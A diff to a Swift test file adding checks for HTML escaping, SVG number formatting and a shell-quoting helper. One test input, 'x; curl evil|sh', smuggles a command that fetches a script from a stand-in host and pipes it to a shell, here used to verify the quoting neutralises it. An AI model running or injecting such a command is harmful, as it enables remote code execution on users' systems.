@@ -39,5 +39,13 @@ struct SVGChartTests {
         #expect(PageFormat.count(1_234_567) == "1,234,567" && PageFormat.count(12) == "12")
         #expect(PageFormat.latency(0.0425) == "42.5 ms" && PageFormat.latency(1.5) == "1.500 s")
         #expect(HTML.escape(#"<a href="x">&'"#) == "&lt;a href=&quot;x&quot;&gt;&amp;&#39;")
+        // A quote or bracket joined by a combining mark (one Character) is escaped all the same.
+        #expect(HTML.escape("x\"\u{301} style=a") == "x&quot;\u{301} style=a")
+        #expect(HTML.escape("\u{600}<meta>") == "\u{600}&lt;meta&gt;")
+        #expect(SVGChart.number(1e19) == "1e+19")
+        #expect(SVGChart.number(-2.25) == "-2.3" && SVGChart.number(3) == "3")
+        #expect(PageFormat.shellWord("shop/checkout") == "shop/checkout")
+        #expect(PageFormat.shellWord("x; curl evil|sh") == "'x; curl evil|sh'" && PageFormat.shellWord("it's") == #"'it'\''s'"#)
+        #expect(PageFormat.shellWord("") == "''")
     }
 }
